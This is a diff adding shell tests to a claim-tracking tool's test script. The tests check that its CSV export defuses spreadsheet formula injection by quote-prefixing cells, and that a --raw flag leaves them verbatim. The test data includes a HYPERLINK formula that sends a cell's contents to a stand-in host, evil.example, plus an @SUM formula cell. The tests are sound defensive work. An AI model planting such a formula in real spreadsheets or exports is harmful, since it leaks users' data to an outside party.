@@ -26,4 +26,30 @@ assert a[0]["claimReviewed"] == sys.argv[1], a[0]["claimReviewed"]
 assert a[0]["itemReviewed"]["author"]["name"] == "Jane <b>Doe</b>"
 assert a[0]["itemReviewed"]["appearance"]["url"] == "https://news.example/a?x=1&y=2"' "$xss"
 
+# ---- CSV: no formula reaches a spreadsheet unless --raw -----------------
+formula='=HYPERLINK("https://evil.example/?d="&B2,"source")'
+succeeds "add a claim whose text is a spreadsheet formula" add "$formula" \
+	--speaker "@SUM(1+1)" --source https://news.example/b --date 2021-11-22 --key owner.key
+succeeds "export --format csv" export --format csv --out guarded.csv
+check "the formula cell gets a leading ' inside RFC 4180 quotes" \
+	grep -qF ",\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&B2,\"\"source\"\")\"," guarded.csv
+check "... so does an @ cell" grep -qF ",'@SUM(1+1)," guarded.csv
+check "no cell starts with a formula character" python3 -c '
+import csv
+for row in csv.reader(open("guarded.csv", newline="", encoding="utf-8")):
+    for cell in row:
+        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell'
+succeeds "export --format csv --raw" export --format csv --raw --out raw.csv
+check "--raw writes the cell verbatim" \
+	grep -qF ",\"=HYPERLINK(\"\"https://evil.example/?d=\"\"&B2,\"\"source\"\")\"," raw.csv
+check "python's csv module reads both back: ' + text, and the text" python3 -c '
+import csv, sys
+g = list(csv.DictReader(open("guarded.csv", newline="", encoding="utf-8")))
+r = list(csv.DictReader(open("raw.csv", newline="", encoding="utf-8")))
+assert len(g) == len(r) == 2
+assert g[1]["text"] == "'"'"'" + sys.argv[1] and r[1]["text"] == sys.argv[1]
+assert g[1]["speaker"] == "'"'"'@SUM(1+1)" and r[1]["speaker"] == "@SUM(1+1)"
+assert g[0]["text"] == r[0]["text"] == sys.argv[2]' "$formula" "$xss"
+fails 2 "--raw with another format" export --format claimreview --raw
+
 finish
